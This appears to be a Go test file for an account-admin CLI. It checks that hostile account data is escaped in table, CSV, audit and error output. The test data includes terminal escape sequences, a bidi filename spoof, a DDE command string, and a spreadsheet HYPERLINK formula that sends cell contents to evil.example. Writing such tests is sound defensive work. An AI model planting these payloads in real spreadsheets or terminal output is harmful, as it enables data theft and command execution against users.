package cli_test

import (
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/ladmin/ladmin/internal/cli"
	"github.com/ladmin/ladmin/internal/cli/cmdutil"
	"github.com/ladmin/ladmin/internal/iostreams"
	"github.com/ladmin/ladmin/internal/liveagent"
	"github.com/ladmin/ladmin/internal/sandbox"
	"github.com/ladmin/ladmin/internal/sandbox/sandboxtest"
	"github.com/ladmin/ladmin/internal/text/texttest"
)

// These tests push hostile account data (texttest.Hostile: terminal
// escapes, C1 controls, bidi overrides, zero-width characters, newlines,
// formula prefixes, very long values) through every output format and every
// command that prints account data, and check that nothing raw gets out
// (spec/cli.md "Output that cannot be turned against its reader").

type run struct {
	out, err string
	code     int
}

// ladmin runs the CLI in-process against the sandbox at url.
func ladmin(t *testing.T, url string, args ...string) run {
	t.Helper()
	return ladminWith(t, url, nil, args...)
}

func ladminWith(t *testing.T, url string, stdout io.Writer, args ...string) run {
	t.Helper()
	ios, _, out, errOut := iostreams.Test()
	if stdout != nil {
		ios.Out = stdout
	}
	t.Setenv("LADMIN_URL", url)
	t.Setenv("LADMIN_API_KEY", sandbox.OwnerKey)
	code := cli.Main(context.Background(), args, ios, cmdutil.BuildInfo{Version: "test"})
	return run{out: out.String(), err: errOut.String(), code: code}
}

func isolate(t *testing.T) {
	t.Helper()
	dir := t.TempDir()
	t.Setenv("HOME", dir)
	t.Setenv("XDG_CONFIG_HOME", filepath.Join(dir, ".config"))
	t.Setenv("XDG_DATA_HOME", filepath.Join(dir, ".local", "share"))
	t.Setenv("NO_COLOR", "1")
	t.Chdir(dir)
}

// hostileAccount starts a sandbox whose agents carry every hostile string
// as name and, for the first ones, inside their email, stored past the
// API's rules (which now refuse most of them). It returns the URL and the
// names by agent id.
func hostileAccount(t *testing.T) (url string, names map[string]string) {
	t.Helper()
	url, srv := sandboxtest.Start(t, sandbox.Options{})
	values := append(append([]string(nil), texttest.Hostile...), texttest.Long[:64<<10])
	names = map[string]string{}
	for i, v := range values {
		email := fmt.Sprintf("h%d@acme.example", i)
		r := ladmin(t, url, "agent", "create", "--name", fmt.Sprintf("Plain %d", i), "--email", email, "-o", "json")
		if r.code != 0 {
			t.Fatalf("create %s: exit %d: %s", email, r.code, r.err)
		}
		var a liveagent.Agent
		if err := json.Unmarshal([]byte(r.out), &a); err != nil {
			t.Fatalf("create %s: %v: %s", email, err, r.out)
		}
		stored := email
		if i < 12 { // the escapes, controls, bidi and invisible ones
			stored = fmt.Sprintf("h%d%s@acme.example", i, v)
		}
		if err := srv.Tamper("UPDATE agents SET name = ?, email = ?, email_lower = lower(?) WHERE id = ?", v, stored, stored, a.ID); err != nil {
			t.Fatal(err)
		}
		names[a.ID] = v
	}
	// A custom role with a hostile name too.
	if err := srv.Tamper("UPDATE roles SET name = ? WHERE base IS NOT NULL AND base != ''", "role\x1b]0;pwn\x07\u202e"); err != nil {
		t.Fatal(err)
	}
	return url, names
}

func assertNothingRaw(t *testing.T, what string, r run) {
	t.Helper()
	if raw := texttest.Raw(r.out); raw != "" {
		t.Errorf("%s: stdout holds %s", what, raw)
	}
	if raw := texttest.Raw(r.err); raw != "" {
		t.Errorf("%s: stderr holds %s", what, raw)
	}
}

func TestHostileDataInEveryHumanOutput(t *testing.T) {
	isolate(t)
	url, names := hostileAccount(t)

	list := ladmin(t, url, "agent", "list")
	if list.code != 0 {
		t.Fatalf("agent list: exit %d: %s", list.code, list.err)
	}
	assertNothingRaw(t, "agent list", list)
	// A newline in a value never starts a new row: one line per agent.
	var asJSON []liveagent.Agent
	js := ladmin(t, url, "agent", "list", "-o", "json")
	if err := json.Unmarshal([]byte(js.out), &asJSON); err != nil {
		t.Fatal(err)
	}
	if got, want := strings.Count(list.out, "\n"), len(asJSON)+1; got != want {
		t.Errorf("agent list printed %d lines for %d agents and the header", got, len(asJSON))
	}
	if !strings.Contains(list.out, `two\nlines`) || !strings.Contains(list.out, `\x1b]0;owned\x07`) || !strings.Contains(list.out, `evil\u202egpj.exe`) {
		t.Errorf("agent list does not show the escapes:\n%.2000s", list.out)
	}

	for _, args := range [][]string{
		{"agent", "list", "-o", "wide"},
		{"agent", "list", "--no-headers"},
		{"agent", "list", "--debug"}, // the trace shows the response bodies
		{"role", "list"},
		{"role", "list", "-o", "wide"},
		{"agent", "list", "--role", "nope\x1b[2J"},         // an error echoing the value
		{"agent", "get", "ghost\x1b]0;x\x07@acme.example"}, // not found, echoed
		{"agent", "get", "h1\x1b[2J\x1b[H@acme.example"},   // a hostile email as the reference
		{"agent", "set-role", "h3two\nlines@acme.example", "--role", "agent", "--dry-run"},
		{"agent", "delete", "h7evil\u202egpj.exe@acme.example", "--dry-run"},
	} {
		r := ladmin(t, url, args...)
		assertNothingRaw(t, strings.Join(args, " "), r)
	}
	for id := range names {
		r := ladmin(t, url, "agent", "get", id)
		if r.code != 0 {
			t.Errorf("agent get %s: exit %d: %s", id, r.code, r.err)
		}
		assertNothingRaw(t, "agent get "+id, r)
	}

	// JSON and YAML carry the values unchanged.
	for _, a := range asJSON {
		if want, ok := names[a.ID]; ok && a.Name != want {
			t.Errorf("-o json changed the name %q to %q", want, a.Name)
		}
	}

	// CSV: no cell a spreadsheet would run.
	for _, args := range [][]string{{"agent", "list", "-o", "csv"}, {"agent", "export", "-o", "csv"}} {
		r := ladmin(t, url, args...)
		assertNoFormulaCell(t, strings.Join(args, " "), r.out)
	}

	// The audit's human formats.
	if err := os.WriteFile("policy.yaml", []byte("allowed_email_domains: [example.com]\nrequire_two_factor: [owner, admin, agent]\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	for _, format := range []string{"table", "markdown", "github"} {
		r := ladmin(t, url, "audit", "--policy", "policy.yaml", "--format", format)
		if r.code != 1 {
			t.Errorf("audit --format %s: exit %d, want 1 (findings): %s", format, r.code, r.err)
		}
		assertNothingRaw(t, "audit --format "+format, r)
		if format == "markdown" && strings.Contains(r.out, "[click]") {
			t.Errorf("markdown keeps a link: %s", r.out)
		}
	}
	// A baseline from a pull request is untrusted too: its hostile emails are
	// refused, and the refusal shows them escaped.
	baseline := "email,role\n\"ana\x1b]0;x\x07@acme.example\",agent\nowner\u200b@acme.example,owner\n"
	if err := os.WriteFile("roster.csv", []byte(baseline), 0o644); err != nil {
		t.Fatal(err)
	}
	r := ladmin(t, url, "audit", "--baseline", "roster.csv")
	if r.code != 2 || !strings.Contains(r.err, "not a valid email") {
		t.Errorf("a baseline with hostile emails: exit %d: %s", r.code, r.err)
	}
	assertNothingRaw(t, "audit --baseline hostile", r)
}

func assertNoFormulaCell(t *testing.T, what, out string) {
	t.Helper()
	recs, err := csv.NewReader(strings.NewReader(out)).ReadAll()
	if err != nil {
		t.Fatalf("%s: %v", what, err)
	}
	if len(recs) < 2 {
		t.Fatalf("%s: no rows: %q", what, out)
	}
	for _, rec := range recs {
		for _, cell := range rec {
			if cell != "" && cell != "-" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
				t.Errorf("%s: cell %.60q would run as a formula", what, cell)
			}
		}
	}
}

// TestExportImportRoundTripsFormulaNames: names that look like formulas are
// guarded in the export and come back unchanged through import.
func TestExportImportRoundTripsFormulaNames(t *testing.T) {
	isolate(t)
	from, _ := sandboxtest.Start(t, sandbox.Options{})
	names := []string{
		`=HYPERLINK("http://evil.example/?x="&B2,"Open")`, "=cmd|'/C calc'!A0", "+1 555 0100", "-Minus", "@handle",
		"'=already quoted", "''=twice", "'Ohana", "Ana Pérez", "می\u200cخواهم",
	}
	for i, n := range names {
		r := ladmin(t, from, "agent", "create", "--name", n, "--email", fmt.Sprintf("f%d@acme.example", i))
		if r.code != 0 {
			t.Fatalf("create %q: exit %d: %s", n, r.code, r.err)
		}
	}
	export := ladmin(t, from, "agent", "export", "-o", "csv")
	if export.code != 0 {
		t.Fatal(export.err)
	}
	assertNoFormulaCell(t, "export", export.out)
	if err := os.WriteFile("roster.csv", []byte(export.out), 0o644); err != nil {
		t.Fatal(err)
	}

	// Into the same account: every row is already as wanted.
	same := ladmin(t, from, "agent", "import", "-f", "roster.csv", "--on-existing", "update", "--dry-run", "-o", "json")
	if same.code != 0 {
		t.Fatalf("import into the same account: exit %d: %s", same.code, same.err)
	}
	var plan []struct{ Email, Action, Details string }
	if err := json.Unmarshal([]byte(same.out), &plan); err != nil {
		t.Fatal(err)
	}
	for _, p := range plan {
		if p.Action != "skip" {
			t.Errorf("%s would be %s (%s): the export did not read back unchanged", p.Email, p.Action, p.Details)
		}
	}

	// Into a fresh account: the names arrive as they were.
	to, _ := sandboxtest.Start(t, sandbox.Options{})
	imp := ladmin(t, to, "agent", "import", "-f", "roster.csv", "--report", "report.csv", "--failed", "failed.csv")
	if imp.code != 0 {
		t.Fatalf("import: exit %d: %s", imp.code, imp.err)
	}
	got := map[string]string{}
	var listed []liveagent.Agent
	if err := json.Unmarshal([]byte(ladmin(t, to, "agent", "list", "-o", "json").out), &listed); err != nil {
		t.Fatal(err)
	}
	for _, a := range listed {
		got[a.Email] = a.Name
	}
	for i, n := range names {
		if g := got[fmt.Sprintf("f%d@acme.example", i)]; g != n {
			t.Errorf("name %q came back as %q", n, g)
		}
	}
	report, _ := os.ReadFile("report.csv")
	assertNoFormulaCell(t, "--report", string(report))
}

func TestNamesAndEmailsRefuseHiddenCharacters(t *testing.T) {
	isolate(t)
	url, _ := sandboxtest.Start(t, sandbox.Options{})
	for _, tc := range []struct {
		name, email string
		ok          bool
	}{
		{"Owner", "owner\u200b@acme.example", false},
		{"Owner", "owner\u202e@acme.example", false},
		{"Owner", "own\u2028er@acme.example", false},
		{"Owner", "own\u0085er@acme.example", false},
		{"Evil \u202egpj.exe", "e1@acme.example", false},
		{"Iso \u2066late", "e2@acme.example", false},
		{"Line\u2029sep", "e3@acme.example", false},
		{"Esc \x1b[2J", "e4@acme.example", false},
		{"می\u200cخواهم", "fa@acme.example", true}, // ZWNJ: Persian
		{"क्\u200dष", "hi@acme.example", true},     // ZWJ: Devanagari
	} {
		r := ladmin(t, url, "agent", "create", "--name", tc.name, "--email", tc.email)
		if tc.ok != (r.code == 0) || (!tc.ok && r.code != 2) {
			t.Errorf("create %q <%q>: exit %d: %s", tc.name, tc.email, r.code, r.err)
		}
		assertNothingRaw(t, "create", r)
	}
}

func TestURLPasswordsNeverShown(t *testing.T) {
	isolate(t)
	url, _ := sandboxtest.Start(t, sandbox.Options{})
	withPass := strings.Replace(url, "://", "://user:s3cretpw@", 1)
	for _, args := range [][]string{{"agent", "list", "--debug"}, {"auth", "status"}, {"auth", "status", "-o", "json"}} {
		r := ladmin(t, withPass, args...)
		if strings.Contains(r.out+r.err, "s3cretpw") {
			t.Errorf("%v shows the password:\n%s\n%s", args, r.out, r.err)
		}
		if args[0] == "agent" && !strings.Contains(r.err, "user:xxxxx@") {
			t.Errorf("--debug does not show the redacted URL:\n%s", r.err)
		}
	}
	// A connection error (nothing listens there).
	r := ladmin(t, "http://user:s3cretpw@127.0.0.1:1", "agent", "list")
	if r.code != 7 || strings.Contains(r.err, "s3cretpw") || !strings.Contains(r.err, "xxxxx") {
		t.Errorf("connection error: exit %d: %s", r.code, r.err)
	}
	// An invalid URL echoed in an error.
	r = ladmin(t, "ftp://user:s3cretpw@host", "agent", "list")
	if r.code != 2 || strings.Contains(r.err, "s3cretpw") {
		t.Errorf("invalid URL error: exit %d: %s", r.code, r.err)
	}
	// auth login prints and saves the URL: the password is not printed.
	ios, in, out, errOut := iostreams.Test()
	in.WriteString(sandbox.OwnerKey + "\n")
	code := cli.Main(context.Background(), []string{"auth", "login", "--url", withPass}, ios, cmdutil.BuildInfo{Version: "test"})
	if code != 0 || strings.Contains(out.String()+errOut.String(), "s3cretpw") {
		t.Errorf("auth login: exit %d:\n%s%s", code, out, errOut)
	}
	for _, args := range [][]string{{"config", "get", "url"}, {"config", "list"}} {
		r := ladmin(t, "", args...)
		if strings.Contains(r.out+r.err, "s3cretpw") {
			t.Errorf("%v shows the password: %s", args, r.out)
		}
	}
}

func TestOutputFileThatIsAnInputIsRefused(t *testing.T) {
	isolate(t)
	url, _ := sandboxtest.Start(t, sandbox.Options{})
	policy := []byte("owners:\n  max: 5\n")
	if err := os.WriteFile("policy.yaml", policy, 0o644); err != nil {
		t.Fatal(err)
	}
	if err := os.Symlink("policy.yaml", "link.yaml"); err != nil {
		t.Fatal(err)
	}
	if err := os.Link("policy.yaml", "hard.yaml"); err != nil {
		t.Fatal(err)
	}
	for _, out := range []string{"policy.yaml", "./policy.yaml", "link.yaml", "hard.yaml"} {
		r := ladmin(t, url, "audit", "--policy", "policy.yaml", "--output-file", out)
		if r.code != 2 || !strings.Contains(r.err, "overwrite an input") {
			t.Errorf("--output-file %s: exit %d: %s", out, r.code, r.err)
		}
		if data, _ := os.ReadFile("policy.yaml"); !bytes.Equal(data, policy) {
			t.Fatalf("--output-file %s replaced the policy with:\n%s", out, data)
		}
	}
	// The baseline too.
	export := ladmin(t, url, "agent", "export", "-o", "json")
	if err := os.WriteFile("roster.json", []byte(export.out), 0o644); err != nil {
		t.Fatal(err)
	}
	if r := ladmin(t, url, "audit", "--baseline", "roster.json", "--output-file", "roster.json"); r.code != 2 {
		t.Errorf("--output-file = --baseline: exit %d: %s", r.code, r.err)
	}
	// Import's --report and --failed, through a hard link.
	if err := os.WriteFile("team.csv", []byte("email,name\nn1@acme.example,N1\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	if err := os.Link("team.csv", "team-link.csv"); err != nil {
		t.Fatal(err)
	}
	for _, flag := range []string{"--report", "--failed"} {
		r := ladmin(t, url, "agent", "import", "-f", "team.csv", flag, "team-link.csv")
		if r.code != 2 || !strings.Contains(r.err, "overwrite an input") {
			t.Errorf("import %s = -f (hard link): exit %d: %s", flag, r.code, r.err)
		}
	}
	// A report that is not an input is written.
	if r := ladmin(t, url, "audit", "--policy", "policy.yaml", "--output-file", "report.txt"); r.code != 0 {
		t.Errorf("--output-file report.txt: exit %d: %s", r.code, r.err)
	}
}

type fullWriter struct{}

func (fullWriter) Write(p []byte) (int, error) { return 0, errors.New("no space left on device") }

func TestWriteFailureAfterAChangeSaysSo(t *testing.T) {
	isolate(t)
	url, srv := sandboxtest.Start(t, sandbox.Options{})
	r := ladminWith(t, url, fullWriter{}, "agent", "create", "--name", "Ana", "--email", "ana@acme.example")
	if r.code != 1 || !strings.Contains(r.err, "ana@acme.example was created") || strings.Contains(r.err, "nothing was changed") {
		t.Errorf("create > /dev/full: exit %d: %s", r.code, r.err)
	}
	if got := ladmin(t, url, "agent", "get", "ana@acme.example"); got.code != 0 {
		t.Errorf("the agent was not created: %s", got.err)
	}
	r = ladminWith(t, url, fullWriter{}, "agent", "set-role", "ana@acme.example", "--role", "admin")
	if r.code != 1 || !strings.Contains(r.err, "changed") {
		t.Errorf("set-role > /dev/full: exit %d: %s", r.code, r.err)
	}
	// An API key revoked, then the output lost.
	_, id, err := srv.IssueKey("ana@acme.example", "temp", "", "")
	if err != nil {
		t.Fatal(err)
	}
	r = ladminWith(t, url, fullWriter{}, "apikey", "revoke", id, "--yes")
	if r.code != 1 || !strings.Contains(r.err, "1 API key was revoked") {
		t.Errorf("apikey revoke > /dev/full: exit %d: %s", r.code, r.err)
	}
	// A dry run changed nothing: its write failure is not a change.
	r = ladminWith(t, url, fullWriter{}, "agent", "create", "--name", "Bo", "--email", "bo@acme.example", "--dry-run")
	if r.code == 0 || r.code == 1 {
		t.Errorf("dry run > /dev/full: exit %d: %s", r.code, r.err)
	}

	// An import whose --report cannot be written: exit 1, and it says the rows were imported.
	if _, err := os.Stat("/dev/full"); err != nil {
		return // not Linux: the in-process writer above covers the rule
	}
	if err := os.WriteFile("team.csv", []byte("email,name\nn1@acme.example,N1\nn2@acme.example,N2\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	r = ladmin(t, url, "agent", "import", "-f", "team.csv", "--report", "/dev/full")
	if r.code != 1 || !strings.Contains(r.err, "was imported (2 created") || !strings.Contains(r.err, "could not be written") {
		t.Errorf("import --report /dev/full: exit %d: %s%s", r.code, r.out, r.err)
	}
}

func TestProblemListsAreBounded(t *testing.T) {
	isolate(t)
	url, _ := sandboxtest.Start(t, sandbox.Options{})
	var b strings.Builder
	b.WriteString("email,name\n")
	for i := range 200 {
		fmt.Fprintf(&b, "bad-%d,Name\n", i)
	}
	if err := os.WriteFile("bad.csv", []byte(b.String()), 0o644); err != nil {
		t.Fatal(err)
	}
	r := ladmin(t, url, "agent", "import", "-f", "bad.csv")
	lines := strings.Split(strings.TrimSpace(r.err), "\n")
	if r.code != 2 || len(lines) != 22 || lines[20] != "... and 180 more (all of them with --report FILE)" {
		t.Errorf("200 bad rows: exit %d, %d lines:\n%s", r.code, len(lines), r.err)
	}
	r = ladmin(t, url, "agent", "import", "-f", "bad.csv", "--report", "report.csv")
	if !strings.Contains(r.err, "... and 180 more (all of them in report.csv)") {
		t.Errorf("with --report: %s", r.err)
	}
	report, _ := os.ReadFile("report.csv")
	if n := strings.Count(string(report), "\n"); n != 201 {
		t.Errorf("the report has %d lines, want the header and 200 problems", n)
	}

	// A huge header line is not echoed whole.
	huge := "email,name," + strings.Repeat("x", 1<<20) + "\x1b[2J\nana@acme.example,Ana,1\n"
	if err := os.WriteFile("huge.csv", []byte(huge), 0o644); err != nil {
		t.Fatal(err)
	}
	r = ladmin(t, url, "agent", "import", "-f", "huge.csv")
	if r.code != 2 || len(r.err) > 4096 {
		t.Errorf("a 1 MB header: exit %d, %d bytes of errors", r.code, len(r.err))
	}
	assertNothingRaw(t, "huge header", r)
}

// TestConcurrentImportsCountEachAgentOnce: two imports of the same file at
// once create every agent once between them; the rows that found the agent
// already there are counted as skipped, not created.
func TestConcurrentImportsCountEachAgentOnce(t *testing.T) {
	isolate(t)
	url, _ := sandboxtest.Start(t, sandbox.Options{})
	const n = 60
	var b strings.Builder
	b.WriteString("email,name\n")
	for i := range n {
		fmt.Fprintf(&b, "c%d@acme.example,C %d\n", i, i)
	}
	if err := os.WriteFile("team.csv", []byte(b.String()), 0o644); err != nil {
		t.Fatal(err)
	}
	t.Setenv("LADMIN_URL", url)
	t.Setenv("LADMIN_API_KEY", sandbox.OwnerKey)
	type result struct {
		out, err string
		code     int
	}
	results := make(chan result, 2)
	for range 2 {
		go func() {
			ios, _, out, errOut := iostreams.Test()
			code := cli.Main(context.Background(), []string{"agent", "import", "-f", "team.csv", "--concurrency", "4"}, ios, cmdutil.BuildInfo{Version: "test"})
			results <- result{out.String(), errOut.String(), code}
		}()
	}
	created, skipped := 0, 0
	for range 2 {
		r := <-results
		if r.code != 0 {
			t.Fatalf("import: exit %d: %s", r.code, r.err)
		}
		var c, u, rs, s, f int
		i := strings.LastIndex(r.out, "team.csv: ")
		if i < 0 {
			t.Fatalf("no summary: %s", r.out)
		}
		if _, err := fmt.Sscanf(r.out[i:], "team.csv: %d created, %d updated, %d restored, %d skipped, %d failed", &c, &u, &rs, &s, &f); err != nil {
			t.Fatalf("summary %q: %v", r.out[i:], err)
		}
		created += c
		skipped += s
	}
	if created != n || skipped != n {
		t.Errorf("two imports of %d rows: %d created, %d skipped in all; want %d and %d", n, created, skipped, n, n)
	}
}
